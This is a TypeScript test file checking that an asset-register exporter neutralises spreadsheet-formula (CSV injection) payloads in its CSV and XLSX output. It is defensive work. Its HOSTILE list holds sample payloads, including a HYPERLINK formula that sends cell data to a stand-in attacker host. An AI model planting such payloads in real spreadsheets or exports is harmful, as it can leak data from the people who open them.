import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { buildRegisters } from './build-registers';
import { readRegisterCsv } from './read-register-tables';
import { assessFile, exampleFile, workbookValues, zipParts } from './testing/register-fixtures';
import { neutraliseFormula, restoreNeutralised } from './neutralise-formula';
import { renderRegisterCsv, writeRegistersCsv } from './write-registers-csv';
import { writeRegistersXlsx } from './write-registers-xlsx';

const readText = (url: URL): string => readFileSync(url, 'utf8');

// Line breaks inside a cell come back as LF from both CSV and XLSX readers (XML normalises CR too).
const asRead = (text: string): string => text.replace(/\r\n?/g, '\n');

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1',
  '@SUM(A1:A9)',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  "'=already quoted",
] as const;

describe('neutraliseFormula', () => {
  it.each(HOSTILE)('makes %j inert and restores it exactly', (text) => {
    const inert = neutraliseFormula(text);
    expect(inert.startsWith("'")).toBe(true);
    expect(restoreNeutralised(inert)).toBe(text);
  });

  it.each(['plain', 'a=b', "it's", '', '1-2'])('leaves %j alone', (text) => {
    expect(neutraliseFormula(text)).toBe(text);
    expect(restoreNeutralised(text)).toBe(text);
  });
});

describe('hostile text in the registers', () => {
  const file = exampleFile('water-treatment', readText);
  const assets = (file.assets ?? []).map((asset, index) => ({
    ...asset,
    name: HOSTILE[index % HOSTILE.length] ?? asset.name,
    owner: HOSTILE[(index + 1) % HOSTILE.length] ?? '',
  }));
  const { model, assessment } = assessFile({ ...file, assets });
  const set = buildRegisters(model, assessment);

  it('comes out inert in CSV: every hostile cell starts with an apostrophe, and reads back exactly', () => {
    const csv = renderRegisterCsv(set.registers[0] ?? { id: 'assets', title: '', columns: [], rows: [] });
    const cells = csv.split('\r\n').flatMap((line) => line.split(','));
    for (const text of ['=HYPERLINK', '+1', '@SUM', '-2+3']) {
      expect(cells.some((cell) => cell.startsWith(text) || cell.startsWith(`"${text}`))).toBe(false);
      expect(csv).toContain(`'${text}`);
    }
    const assetsCsv = writeRegistersCsv(set).find((entry) => entry.name === 'assets.csv');
    const read = readRegisterCsv(assetsCsv?.bytes ?? new Uint8Array(), 'assets.csv', 'assets');
    const names = read.tables[0]?.table.rows.map((row) => row.cells[1]?.text);
    expect([...(names ?? [])].sort()).toEqual(assets.map((asset) => asRead(asset.name)).sort());
  });

  it('comes out inert in XLSX: string cells, no formula anywhere, the exact text read back', async () => {
    const bytes = await writeRegistersXlsx(set);
    for (const [path, xml] of zipParts(bytes)) {
      if (path.startsWith('xl/worksheets/'))
        expect({ path, hasFormula: xml.includes('<f>') }).toEqual({ path, hasFormula: false });
    }
    const values = await workbookValues(bytes);
    const names = (values.get('Assets') ?? []).slice(1).map((row) => row[1]);
    expect(names.filter((name) => HOSTILE.map(asRead).includes(name ?? ''))).toHaveLength(names.length);
  });
});
